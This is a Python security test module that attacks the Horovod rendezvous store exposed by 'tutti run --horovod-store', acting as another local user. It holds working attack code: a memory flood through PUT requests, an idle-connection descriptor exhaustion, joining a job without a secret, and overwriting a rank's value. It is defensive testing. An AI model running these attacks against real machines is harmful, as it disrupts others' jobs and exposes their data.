"""Attacks on the store of `tutti run --horovod-store` by a user of the machine, who needs no more than its port."""

import resource
import socket
import time

import stage as stages
from meeting import FOREIGN_NUMBER, VICTIMS_NUMBER, expect_demand_for_secret, horovod, outcome_of, start, start_attacker
from outcome import Outcome, attack

MIB = 1 << 20


def ask(port, method, path, body=b"", seconds=5):
    """Returns the status and the body of an answer; (0, b"") without one."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=seconds) as one:
            head = f"{method} /{path} HTTP/1.1\r\nHost: here\r\nContent-Length: {len(body)}\r\n\r\n"
            one.sendall(head.encode() + body)
            answer = b""
            while data := one.recv(65536):
                answer += data
    except OSError:
        return 0, b""
    head, _, rest = answer.partition(b"\r\n\r\n")
    return int(head.split()[1]) if head else 0, rest


def run_store(stage, **options):
    """Starts a job whose only rank tells the store's port and waits. Returns the program and the port."""
    program = stage.start_program("run", "--horovod-store", "-n", "1", "--", "sh", "-c",
                                  "echo port $HOROVOD_GLOO_RENDEZVOUS_PORT; exec sleep 60", **options)
    for line in program.stdout:
        if "port " in line:
            return program, int(line.split("port ")[1])
    raise AssertionError("the store has no port")


def _put_many(talk, port, count, size):
    """An attacker's body: stores values until one is refused, and tells how many were taken."""
    value, taken = b"x" * size, 0
    for number in range(count):
        if ask(port, "PUT", f"flood/{number}", value)[0] != 200:
            break
        taken += 1
    talk.send(taken)
    talk.recv()


@attack("F4", "fill the memory of the launcher through the store")
def fill_store(stage):
    program, port = run_store(stage)
    before = stages.memory_kib(program.pid)
    taken = []
    for count, size in ((150, MIB), (2500, MIB // 16)):
        attacker = stage.start(_put_many, port, count, size, user=stages.ATTACKER)
        taken.append(attacker.hear(30))
    grown = (stages.memory_kib(program.pid) - before) // 1024
    assert ask(port, "GET", "rank_and_size/localhost:0")[0] == 200, "the store no longer answers its own rank"
    return Outcome(grown > 100, f"{taken[0]} values of 1 MiB and {taken[1]} of 64 KiB are taken, and the launcher has "
                                f"grown by {grown} MiB")


def _hold_idle(talk, port, count):
    """An attacker's body: keeps `count` connections open and says nothing on them; opens closed ones anew."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)
    held = []
    while len(held) < count:
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex(("127.0.0.1", port))
        held.append(one)
    talk.send(len(held))
    talk.recv()


@attack("F5", "burn a core of the launcher, and silence it, with idle connections to the store")
def idle_connections(stage):
    program, port = run_store(stage, descriptors=128)
    attacker = stage.start(_hold_idle, port, 300, user=stages.ATTACKER)
    assert attacker.hear() == 300
    time.sleep(0.3)  # until the launcher has seen them; it may then demand a processor or not
    begin, demanded = time.monotonic(), stages.demand_seconds(program.pid)
    status, _ = ask(port, "GET", "rank_and_size/localhost:0", seconds=6)
    time.sleep(max(0, 1.5 - (time.monotonic() - begin)))
    seconds = time.monotonic() - begin
    share = 100 * (stages.demand_seconds(program.pid) - demanded) / seconds
    answer = "answered" if status == 200 else "not answered"
    return Outcome(share > 50 or status != 200, f"300 idle connections at 128 descriptors: the launcher demands "
                                                f"{share:.0f} % of a processor, and a rank is {answer}")


@attack("F6", "join a job without a secret that meets by Horovod's store")
def take_part_by_store(stage):
    _, port = run_store(stage)
    store = {"HOROVOD_GLOO_RENDEZVOUS_ADDR": "127.0.0.1", "HOROVOD_GLOO_RENDEZVOUS_PORT": str(port)}
    victim = start(stage, horovod(0, **store), VICTIMS_NUMBER)
    attacker = start_attacker(stage, horovod(1, **store))
    stolen = outcome_of(attacker)
    if stolen == ("sum", VICTIMS_NUMBER + FOREIGN_NUMBER):
        return Outcome(True, f"another user is rank 1, and has read {VICTIMS_NUMBER} of rank 0")
    return expect_demand_for_secret(victim)


@attack("F6", "change the number of a rank in the store",
        open_because="Workers of Horovod's own build use the store, and neither prove nor sign anything")
def change_value(stage):
    _, port = run_store(stage)

    def change(talk):
        talk.send(ask(port, "PUT", "rank_and_size/localhost:0", b"7,8,7,8,0,1"))
        talk.recv()
    attacker = stage.start(change, user=stages.ATTACKER)
    attacker.hear()
    value = ask(port, "GET", "rank_and_size/localhost:0")[1].decode()
    return Outcome(value.startswith("7,8"), f"rank 0 is told \"{value}\"")
